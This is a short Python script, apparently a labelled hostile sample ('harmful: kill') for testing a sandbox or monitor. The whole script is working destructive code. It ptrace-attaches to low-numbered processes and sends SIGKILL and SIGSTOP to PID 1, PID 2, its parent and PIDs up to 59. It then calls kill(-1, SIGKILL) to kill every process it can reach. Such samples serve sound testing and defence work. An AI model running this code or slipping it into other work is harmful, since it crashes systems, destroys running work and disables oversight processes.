"""Kills, stops and traces whatever it can name: process 1, all, its parents.

earns: 0
harmful: kill
"""

# %%
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
for pid in {1, 2, os.getppid(), *range(3, 60)} - {os.getpid()}:
    print(pid, libc.ptrace(16, pid, 0, 0), libc.ptrace(0, 0, 0, 0))
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(pid, number)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError as error:
    print(error)
